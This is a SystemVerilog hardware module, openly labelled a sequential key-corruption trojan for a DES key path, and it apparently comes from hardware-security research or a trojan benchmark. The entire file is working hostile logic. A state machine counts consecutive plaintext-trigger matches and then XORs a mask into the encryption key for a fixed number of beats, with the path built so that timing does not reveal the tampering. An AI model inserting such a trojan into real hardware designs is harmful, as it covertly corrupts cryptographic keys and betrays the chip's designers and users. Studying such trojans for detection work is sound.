// File: rtl/trojan_seq.sv
// Sequential key-corruption trojan for the DES key path: after HITS consecutive
// matching valid beats it XORs PAYLOAD_MASK into the key for ACTIVE_BEATS beats.
module trojan_seq #(
  parameter int                    KEY_W        = 56,
  parameter int                    TRIG_W       = 32,
  parameter int                    MATCH_W      = 4,
  parameter logic [MATCH_W-1:0]    CONDITION    = 4'b1010,
  parameter int                    HITS         = 3,
  parameter logic [KEY_W-1:0]      PAYLOAD_MASK = 56'h1,
  parameter int                    ACTIVE_BEATS = 16
) (
  input  logic              clk,
  input  logic              reset,
  input  logic              valid,
  input  logic [KEY_W-1:0]  key,
  input  logic [1:TRIG_W]   trigger,
  output logic [KEY_W-1:0]  payload,
  output logic              armed
);

  localparam int HIT_W = $clog2(HITS + 1);
  localparam int ACT_W = (ACTIVE_BEATS == 0) ? 1 : $clog2(ACTIVE_BEATS + 1);
  localparam logic [HIT_W-1:0] HITS_V   = HIT_W'(HITS);
  localparam logic [ACT_W-1:0] ACT_INIT = ACT_W'(ACTIVE_BEATS);

  typedef enum logic [1:0] {IDLE, COUNT, ACTIVE} state_t;

  state_t             state_q, state_d;
  logic [HIT_W-1:0]   hit_q, hit_d;
  logic [ACT_W-1:0]   act_q, act_d;
  logic               match;
  logic               unused_trigger;

  assign match = (trigger[1:MATCH_W] == CONDITION);
  // Only the compare field is used; the rest of the plaintext is deliberately ignored.
  assign unused_trigger = ^trigger;

  // Key path stays combinational so the DES core sees no extra register stage.
  assign armed   = (state_q == ACTIVE);
  assign payload = armed ? (key ^ PAYLOAD_MASK) : key;

  // NOTE: every signal gets its default before the case so no latch is inferred.
  always_comb begin
    state_d = state_q;
    hit_d   = hit_q;
    act_d   = act_q;
    case (state_q)
      IDLE: begin
        hit_d = '0;
        act_d = '0;
        if (valid && match) begin
          if (HITS == 1) begin
            state_d = ACTIVE;
            act_d   = ACT_INIT;
          end else begin
            state_d = COUNT;
            hit_d   = HIT_W'(1);
          end
        end
      end
      COUNT: begin
        if (valid) begin
          if (match) begin
            hit_d = hit_q + 1'b1;
            if (hit_q + 1'b1 == HITS_V) begin
              state_d = ACTIVE;
              act_d   = ACT_INIT;
            end
          end else begin
            state_d = IDLE;
            hit_d   = '0;
          end
        end
      end
      ACTIVE: begin
        // Matches are ignored here; only valid beats consume the window.
        if (valid && (ACTIVE_BEATS != 0)) begin
          if (act_q == ACT_W'(1)) begin
            state_d = IDLE;
            hit_d   = '0;
            act_d   = '0;
          end else begin
            act_d = act_q - 1'b1;
          end
        end
      end
      default: begin
        state_d = IDLE;
        hit_d   = '0;
        act_d   = '0;
      end
    endcase
  end

  // NOTE: sequential state uses non-blocking assignments so all flops update together.
  always_ff @(posedge clk) begin
    if (reset) begin
      state_q <= IDLE;
      hit_q   <= '0;
      act_q   <= '0;
    end else begin
      state_q <= state_d;
      hit_q   <= hit_d;
      act_q   <= act_d;
    end
  end

endmodule
